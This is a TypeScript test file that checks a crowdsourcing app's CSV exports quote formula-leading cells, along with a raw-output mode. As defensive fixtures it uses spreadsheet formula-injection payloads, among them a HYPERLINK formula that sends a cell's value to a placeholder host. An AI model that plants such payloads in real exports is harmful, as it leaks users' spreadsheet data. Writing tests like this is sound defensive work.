import { parse } from 'csv-parse/sync';
import { insertDataset, insertJudgment, insertStudy, insertWorkers } from '../../helpers/factories';
import { createTestApp, loginAs, type Agent, type TestContext } from '../../helpers/test-app';

/**
 * Spreadsheet formula injection: text a worker, an importer or a dataset owner wrote must reach every CSV
 * download with formula-leading cells quoted (`'=...`), unless the caller asks for `?raw=1`.
 */
let ctx: TestContext;
let owner: Agent;
let studyId: number;
let datasetId: number;

const COMMENTS = ['=HYPERLINK("http://x?leak="&A1,"click")', '+1+1', '@SUM(1,1)'];

beforeAll(async () => {
  ctx = await createTestApp();
  owner = await loginAs(ctx, 'researcher');
  const db = ctx.database.db;
  const d = await insertDataset(db, owner.user.id, [{ proposed: '-1' }, { proposed: ' No' }], {
    name: '=1+1',
    slug: 'formula-names',
    category: '@risk',
  });
  datasetId = d.datasetId;
  ({ studyId } = await insertStudy(db, owner.user.id, [datasetId], { k: 3 }));
  const workers = await insertWorkers(db, 3);
  const tasks = await db('tasks').where({ study_id: studyId }).orderBy('id').select('id');
  for (const [w, comment] of COMMENTS.entries())
    await insertJudgment(db, Number(tasks[0].id), workers[w]!, { answer: ' No', relevance: 1, comment });
  await db('users').where({ id: workers[0] }).update({ external_id: '-cmd' });
  await db('study_workers').insert({
    study_id: studyId,
    worker_id: workers[0],
    external_session_id: '\tTAB',
  });
  await db('study_workers').insert({ study_id: studyId, worker_id: workers[1], external_session_id: '\rCR' });
});
afterAll(async () => {
  await ctx.close();
});

const rowsOf = (text: string) => parse(text, { columns: true }) as Record<string, string>[];
const cells = (rows: Record<string, string>[]) => rows.flatMap((r) => Object.values(r));
const unsafe = (cell: string) => /^[=+\-@\t\r]/.test(cell);

async function download(path: string) {
  return rowsOf((await owner.get(`/studies/${studyId}${path}`).expect(200)).text);
}

describe('CSV downloads neutralise formula-leading text cells', () => {
  it('judgments.csv quotes crowd comments and proposed labels, keeps numbers as numbers', async () => {
    const rows = await download('/judgments.csv');
    expect(rows.map((r) => r.comment).filter(Boolean)).toEqual(COMMENTS.map((c) => `'${c}`));
    expect(rows.find((r) => r.comment)!.proposed_label).toBe("'-1");
    expect(rows.find((r) => r.comment)!.relevance).toBe('1');
    expect(cells(rows).filter(unsafe)).toEqual([]);
  });

  it('summary.csv quotes a dataset named =1+1 and a category @risk', async () => {
    const rows = await download('/summary.csv');
    expect(rows[0]).toMatchObject({ name: "'=1+1", category: "'@risk", sampled: '2' });
    expect(cells(rows).filter(unsafe)).toEqual([]);
  });

  it('examples.csv quotes imported labels', async () => {
    const rows = await download('/examples.csv');
    expect(rows[0]).toMatchObject({ proposed_label: "'-1", judgments: '3' });
    expect(cells(rows).filter(unsafe)).toEqual([]);
  });

  it('completions.csv quotes platform ids and session ids, including tab and CR', async () => {
    const rows = await download('/completions.csv');
    expect(rows.map((r) => r.platform_id)).toContain("'-cmd");
    expect(rows.map((r) => r.session_id)).toEqual(expect.arrayContaining(["'\rCR", "'\tTAB"]));
    expect(cells(rows).filter(unsafe)).toEqual([]);
  });

  it('removed.csv keeps its JSON records intact and safe', async () => {
    const rows = await download(`/datasets/${datasetId}/removed.csv?rules=1&min_relevance=2`);
    expect(rows.map((r) => r.position)).toEqual(['1', '2']);
    for (const r of rows) expect(JSON.parse(r.record!)).toBeInstanceOf(Object);
    expect(cells(rows).filter(unsafe)).toEqual([]);
  });
});

describe('?raw=1 for machine consumers', () => {
  it('writes text cells exactly as stored in every CSV', async () => {
    const judgments = await download('/judgments.csv?raw=1');
    expect(judgments.map((r) => r.comment).filter(Boolean)).toEqual(COMMENTS);
    expect((await download('/summary.csv?raw=1'))[0]!.name).toBe('=1+1');
    expect((await download('/examples.csv?raw=1'))[0]!.proposed_label).toBe('-1');
    expect((await download('/completions.csv?raw=1')).map((r) => r.platform_id)).toContain('-cmd');
  });
});
